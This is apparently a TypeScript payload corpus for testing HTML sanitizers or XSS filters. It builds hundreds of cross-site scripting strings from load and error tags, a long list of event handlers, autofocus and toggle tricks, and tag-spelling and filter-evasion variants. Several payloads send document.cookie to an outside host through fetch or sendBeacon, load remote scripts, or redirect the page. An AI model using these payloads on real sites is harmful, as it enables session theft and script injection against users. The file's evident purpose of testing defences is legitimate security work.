import { away, code, script } from './what-runs.ts';

/** Elements that load something, and fail. */
export const loading = [
  ...['img', 'image', 'audio', 'video', 'embed', 'iframe', 'frame', 'source', 'track', 'link rel=stylesheet'],
  ...[
    'input type=image',
    'object data=x',
    'video poster=x',
    'script',
    'bgsound',
    'applet',
    'isindex type=image',
  ],
].flatMap((tag) => [`<${tag} src=x onerror=${code}>`, `<${tag} src=/healthz onload=${code}>`]);

/** Handlers that fire by themselves, or at the first touch of the page. */
export const handlers = [
  ...['abort', 'afterprint', 'animationcancel', 'animationend', 'animationiteration', 'animationstart'],
  ...['auxclick', 'beforecopy', 'beforecut', 'beforeinput', 'beforematch', 'beforepaste', 'beforeprint'],
  ...['beforescriptexecute', 'beforetoggle', 'beforeunload', 'begin', 'blur', 'bounce', 'cancel', 'canplay'],
  ...['canplaythrough', 'change', 'click', 'close', 'command', 'contentvisibilityautostatechange'],
  ...['contextmenu', 'copy', 'cuechange', 'cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragleave'],
  ...['dragover', 'dragstart', 'drop', 'durationchange', 'end', 'ended', 'finish', 'focus', 'focusin'],
  ...['focusout', 'formdata', 'fullscreenchange', 'gesturestart', 'gotpointercapture', 'hashchange', 'input'],
  ...['invalid', 'keydown', 'keypress', 'keyup', 'loadeddata', 'loadedmetadata', 'loadstart', 'message'],
  ...['mousedown', 'mouseenter', 'mouseleave', 'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel'],
  ...['pagehide', 'pagereveal', 'pageshow', 'pageswap', 'paste', 'pause', 'play', 'playing', 'pointercancel'],
  ...['pointerdown', 'pointerenter', 'pointerleave', 'pointermove', 'pointerout', 'pointerover'],
  ...['pointerrawupdate', 'pointerup', 'popstate', 'progress', 'ratechange', 'repeat', 'reset', 'resize'],
  ...['scroll', 'scrollend', 'scrollsnapchange', 'search', 'securitypolicyviolation', 'seeked', 'seeking'],
  ...['select', 'selectionchange', 'selectstart', 'show', 'slotchange', 'start', 'submit', 'suspend'],
  ...['timeupdate', 'toggle', 'touchcancel', 'touchend', 'touchmove', 'touchstart', 'transitioncancel'],
  ...['transitionend', 'transitionrun', 'transitionstart', 'unhandledrejection', 'unload', 'volumechange'],
  ...['waiting', 'webkitanimationend', 'webkittransitionend', 'wheel'],
].map((name) => `<p on${name}=${code} tabindex=0 autofocus style="animation:x 1s">x</p>`);

export const handlerForms = [
  ...['svg onload', 'body onload', 'details open ontoggle', 'marquee onstart', 'dialog open onclose'],
  ...[
    'input autofocus onfocus',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'keygen autofocus onfocus',
  ],
  ...['video oncanplay', 'audio controls onplay', 'button popovertarget=x onbeforetoggle', 'a onclick'],
  ...[
    'meter onmouseover',
    'summary onfocus',
    'x contenteditable onfocus',
    'frameset onload',
    'table onmouseover',
  ],
  ...['form oninput', 'fieldset onchange', 'label onclick', 'object onerror', 'style onload', 'math onclick'],
].map((tag) => `<${tag}=${code}>x`);

export const spelling = [
  script,
  `<script >${code}</script >`,
  `<script\n>${code}</script\n>`,
  `<script/x>${code}</script>`,
  `<script src=//${away}/a.js></script>`,
  `<script type=module>${code}</script>`,
  `<script type=importmap>{"imports":{"x":"//${away}/a.js"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["//${away}/"]}]}</script>`,
  `<script nonce="">${code}</script>`,
  `<script charset=utf-7>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<<script>${code}//<</script>`,
  `<script>${code}`,
  `<script x="</script><script>${code}//">`,
  `<img/src="x"/onerror=${code}>`,
  `<img\tsrc=x\nonerror\n=\n${code}>`,
  `<img\fsrc=x\fonerror=${code}>`,
  `<img\u000bsrc=x onerror=${code}>`,
  `<img src=\`x\` onerror=${code}>`,
  `<img src=x onerror=${code} `,
  `<img src=x:${code} onerror=eval(src)>`,
  `<IMG """>${script}">`,
  `<img src=x onerror\u0000=${code}>`,
  `<img """ src=x onerror=${code}>`,
  `<img src=x onerror=alert\`1\`>`,
  `<img src=x onerror=window['al'+'ert'](1)>`,
  `<img src=x onerror="import('//${away}/a.js')">`,
  `<img src=x onerror="fetch('//${away}/?'+document.cookie)">`,
  `<img src=x onerror="navigator.sendBeacon('//${away}',document.cookie)">`,
  `<img src=x onerror="location='//${away}'">`,
  `< img src=x onerror=${code}>`,
  `<\u3000img src=x onerror=${code}>`,
  `<a/href=javascript:${code}>x`,
  `<br size="&{${code}}">`,
  `<p/onclick=${code}/>x`,
];
